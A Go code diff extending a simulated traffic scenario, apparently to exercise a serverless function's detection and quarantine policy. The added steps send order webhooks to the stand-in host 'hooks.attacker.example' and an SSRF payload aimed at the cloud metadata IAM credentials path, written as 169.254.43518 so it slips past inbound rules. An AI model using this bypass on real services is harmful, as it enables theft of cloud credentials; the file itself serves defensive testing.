@@ -42,7 +42,16 @@ func httpEvent(method, path, query, body, ip string) []byte {
 	return b
 }
 
-// scenario is the script: steady traffic from every source, injection
+// The outbound step's destinations: a host the function has never called
+// (it need not resolve: a call to it is recorded all the same), and the
+// instance metadata, 169.254.169.254, as inet_aton reads 169.254.43518.
+const (
+	newHost       = "http://hooks.attacker.example"
+	metadataShort = "http://169.254.43518/latest/meta-data/iam/security-credentials/"
+)
+
+// scenario is the script: steady traffic from every source, order
+// webhooks to a never-seen host and to the instance metadata, injection
 // attempts on each, a client that keeps trying, a slow-down, an error
 // burst, an attack wave from many addresses, and then the quarantine the
 // policy asks for. events is the directory of sample events.
@@ -83,8 +92,20 @@ func scenario(events string) ([]step, error) {
 		}
 		return out
 	}
+	// The customer's webhook: a host the function never called, and the
+	// instance metadata written in a short form the inbound rules miss.
+	webhook := func(target string) string {
+		return strings.Replace(order, `"payment":"card"`, `"payment":"card","notify_url":"`+target+`"`, 1)
+	}
 	return []step{
 		{"steady traffic from four sources", steady},
+		{"order webhooks to a never-seen host", []call{
+			{"HTTP POST, webhook at hooks.attacker.example", httpEvent("POST", "/orders", "", webhook(newHost+"/orders"), "198.51.100.77")},
+			{"HTTP POST, webhook at hooks.attacker.example", httpEvent("POST", "/orders", "", webhook(newHost+"/orders"), "198.51.100.78")},
+		}},
+		{"SSRF past the rules: metadata webhook", []call{
+			{"HTTP POST, webhook at 169.254.43518", httpEvent("POST", "/orders", "", webhook(metadataShort), "198.51.100.79")},
+		}},
 		{"injection attempts, one per source", []call{
 			{"HTTP SQL injection", httpEvent("GET", "/orders", sqli, "", "203.0.113.7")},
 			{"SQS batch, one poisoned record", sample["sqs-batch-one-poisoned"]},
